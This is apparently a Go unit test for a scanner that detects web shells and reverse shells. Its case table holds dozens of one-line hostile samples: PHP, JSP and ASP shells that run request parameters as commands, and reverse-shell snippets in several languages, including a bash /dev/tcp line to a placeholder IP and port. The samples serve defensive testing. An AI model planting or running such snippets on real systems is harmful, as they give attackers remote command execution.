package analysis

import (
	"strings"
	"testing"
)

func TestServesShell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, text string
		want       bool
	}{
		{"/w/shell.php", `<?php echo "Shell";system($_GET['cmd']); ?>`, true},
		{"/w/a.php", `<?php if(isset($_REQUEST["cmd"])){ $cmd = ($_REQUEST["cmd"]); system($cmd); die; }?>`, true},
		{"/w/.htaccess", "AddType application/x-httpd-php .htaccess\n# <?php passthru($_GET['c']); ?>\n", true},
		{"/w/a.php", "<?php\nfunction shell($cmd, $dir) {\n  exec($cmd, $out);\n}\nshell($_POST['cmd'], '.');\n", true},
		{"/w/a.php", "<?php $a = file_get_contents('php://input'); eval($a);", true},
		{"/w/t.jsp", `<%@ page import="java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`, true},
		{"/w/t.jsp", `<%@ page import="java.io.*"%><% String c = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec("cmd /C " + c); %>`, true},
		{"/w/c.aspx", "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Run()\nmyProcess.StartInfo.FileName = xpath.Text\n", true},
		{"/w/c.asp", `<%@ Language=VBScript %><% eval request("x") : execute(Request.Form("c")) %>`, true},

		{"/w/s.c", "int main(){ connect(s, a, n); dup2(s, 0); dup2(s, 1); execve(\"/bin/sh\", v, 0); }", true},
		{"/w/S.cs", "var c = new TcpClient(h, p); var s = c.GetStream(); p.StartInfo.FileName = \"cmd.exe\"; p.StandardInput.WriteLine(x);", true},
		{"/w/S.java", `Runtime.getRuntime().exec("bash -c $@|bash 0 echo bash -i >& /dev/tcp/10.10.14.8/1337 0>&1");`, true},
		{"/w/S.java", `Socket s=new Socket(h,p); Process p=new ProcessBuilder("/bin/sh").start(); p.getInputStream(); s.getOutputStream();`, true},
		{"/w/m.go", `c, _ := net.Dial("tcp", a); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Run()`, true},
		{"/w/m.rs", `let s = TcpStream::connect(a); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) })`, true},

		{"/w/s.c", "int main(){ connect(s, a, n); dup2(s, 0); execve(\"/usr/bin/git\", v, 0); }", false},
		{"/w/S.java", `Socket s=new Socket(h,p); s.getInputStream(); s.getOutputStream(); run("make");`, false},
		{"/w/m.go", `c, _ := net.Dial("tcp", a); cmd := exec.Command("sh", "-c", x); cmd.Stdin = os.Stdin`, false},
		{"/w/a.php", `<?php system("uptime -h " . escapeshellarg($_GET['h'])); ?>`, false},
		{"/w/a.php", `<?php $n = (int)$_GET['n']; exec("head -n $n log.txt"); ?>`, false},
		{"/w/a.php", `<?php echo htmlspecialchars($_GET['h']); $db->exec("VACUUM"); ?>`, false},
		{"/w/a.php", `<?php $q = $_GET['q']; $rows = $db->query($q); exec("make build");`, false},
		{"/w/a.php", `<?php $cmd = $_POST['cmd'] === 'up' ? 'up' : 'down'; exec("docker compose $cmd");`, false},
		{"/w/a.php", `<?php curl_exec($_GET['url']);`, false},
		{"/w/docs/webshells.md", "```php\n<?php system($_GET['cmd']); ?>\n```", false},
		{"/w/tests/fixtures/shell.php", `<?php system($_GET['cmd']); ?>`, false},
		{"/w/t.jsp", `<%@ page import="java.util.regex.*"%><% Matcher m = p.matcher(request.getParameter("q")); executor.execute(job); %>`, false},
		{"/w/a.erb", `<%= system("uptime") %> <%= request.path %>`, false},
		{"/w/a.js", "system($_GET['cmd'])", false},
	} {
		if got := len(webOrReverseShellEffects(c.name, c.text)) > 0; got != c.want {
			t.Errorf("%s: %t: %s", c.name, got, c.text)
		}
	}
	long := "<?php " + strings.Repeat("$a = $_GET['x']; f($a); function f($a) { ", 5000)
	if webOrReverseShellEffects("/w/a.php", long[:min(len(long), maxServerPageBytes)]) != nil {
		t.Error("no command is run")
	}
}
